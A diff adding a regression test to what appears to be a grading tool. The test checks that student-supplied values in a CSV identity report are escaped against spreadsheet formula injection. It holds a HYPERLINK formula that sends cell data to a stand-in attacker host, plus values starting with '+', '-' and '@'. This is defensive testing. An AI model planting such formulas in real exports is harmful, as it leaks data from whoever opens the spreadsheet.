@@ -321,3 +321,21 @@ def test_regression_shown_numbers_reads_malformed_cells_without_failing():
     nb.metadata[SHOWN] = {"b": {"variant": 0}, "forged": 1}
     nb, _ = ShownNumbers().preprocess(nb, {})
     assert nb.metadata[SHOWN] == {"b": {"variant": 3, "student": ("bob9" * 100)[:200]}}
+
+
+def test_regression_a_formula_in_a_record_never_reaches_the_identity_report(tmp_path):
+    """Red team: shown_as comes from the student's own record; "=HYPERLINK(...)" was written
+    as it was into identity-report.csv, which the instructor opens in a spreadsheet."""
+    import csv
+
+    path = tmp_path / "identity-report.csv"
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"regrade me")'
+    row = {"graded_as": "bob@x.edu", "how": "no roster", "shown_as": evil, "lost": "-1+1"}
+    write_report(path, "ps01", "@bob", row)
+    write_report(path, "ps01", "@bob", {**row, "other_numbers": "+cmd"})  # replaces the row
+    with open(path, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == 1
+    for value in rows[0].values():
+        assert not value.startswith(("=", "+", "-", "@")), rows[0]
+    assert rows[0]["shown_as"] == "'" + evil and rows[0]["student"] == "'@bob"
